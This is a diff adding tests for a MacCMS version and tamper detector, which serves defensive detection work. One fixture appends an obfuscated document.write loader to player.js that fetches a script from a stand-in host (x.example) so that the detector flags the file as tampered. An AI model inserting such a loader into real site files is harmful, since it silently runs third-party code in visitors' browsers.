@@ -7,6 +7,8 @@ import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { POST as checkVersion } from '@/app/yapi/[product]/check_version/route';
 import type { VersionInfo } from '@/contract/domain-version';
+import { demoStaticFiles } from '@/server/domain/official/demo-files';
+import { seedContent } from '@/server/seed/content';
 import { callApi } from '../../support/api';
 import { withProduct } from '../../support/domain';
 
@@ -168,3 +170,66 @@ async function serve(files: Record<string, string>) {
     close: () => new Promise<void>((resolve) => site.close(() => resolve())),
   };
 }
+
+describe('check_version against the official files derived from the release packages', () => {
+  // The demo releases, whose packages hold the CMS's static files.
+  beforeAll(() => seedContent());
+  const official = (version: string) => demoStaticFiles('pro', version);
+  const cmsSite = (files: Record<string, string>) =>
+    serve(Object.fromEntries(Object.entries(files).map(([p, t]) => [`/${p}`, t])));
+
+  it('takes the version range from the static files that match official releases, with high confidence', async () => {
+    const site = await cmsSite(official('2025.1000.4052'));
+    const res = await check(site.url);
+    await site.close();
+    expect(res.info.is_cms).toBe(true);
+    expect(res.info.evidence).toEqual(['MacPlayerConfig', 'var MAC=']);
+    expect([res.info.version_from, res.info.version_to, res.info.confidence]).toEqual([
+      '2025.1000.4052',
+      '2025.1000.4052',
+      'high',
+    ]);
+    expect(res.info.static_files.find((f) => f.path === '/static/js/player.js')).toEqual({
+      path: '/static/js/player.js',
+      status: 'official',
+      versions: ['2025.1000.4052'],
+      added: '',
+    });
+  });
+
+  it('shows a tampered file with the code it adds, and ranges the version from the untouched ones', async () => {
+    const files = official('2025.1000.4052');
+    const loader = "\n;document.write('<script src=\"https://x.example/a.js\"></scr'+'ipt>');";
+    const site = await cmsSite({
+      ...files,
+      'static/js/player.js': `${files['static/js/player.js']}${loader}`,
+    });
+    const res = await check(site.url);
+    await site.close();
+    expect(res.info.static_files.find((f) => f.path === '/static/js/player.js')).toMatchObject({
+      status: 'tampered',
+      versions: ['2025.1000.4052'],
+      added: loader.trim(),
+    });
+    expect([res.info.version_from, res.info.version_to]).toEqual(['2025.1000.4050', '2025.1000.4052']);
+    expect(res.info.verdict).toBe('affected');
+    expect(res.info.vulnerabilities.find((v) => v.id === 'MACCMS-TAMPERED-BUILD')?.files).toEqual([
+      '/static/js/player.js',
+    ]);
+  });
+
+  it('does not call a blog post that quotes the CMS a CMS', async () => {
+    const blog = http.createServer((req, res) => {
+      if (req.url?.startsWith('/static/')) return res.writeHead(404).end('<html>not found</html>');
+      res.end(`<html><head><title>如何识别 MacCMS</title></head><body>
+<p>MacCMS 页面里有 <code>var maccms = {"path":"","mid":"1"}</code>，模板带 ?v=2025.1000.4052，playerconfig.js 里是 MacPlayerConfig。</p>
+<pre><code>&lt;script&gt;var maccms={"path":"","mid":"1"};&lt;/script&gt;</code></pre></body></html>`);
+    });
+    await new Promise<void>((resolve) => blog.listen(0, '127.0.0.1', resolve));
+    const res = await check(`http://127.0.0.1:${(blog.address() as AddressInfo).port}/`);
+    blog.close();
+    expect(res.info.is_cms).toBe(false);
+    expect(res.info.verdict).toBe('not_cms');
+    expect(res.info.evidence).toEqual([]);
+  });
+});
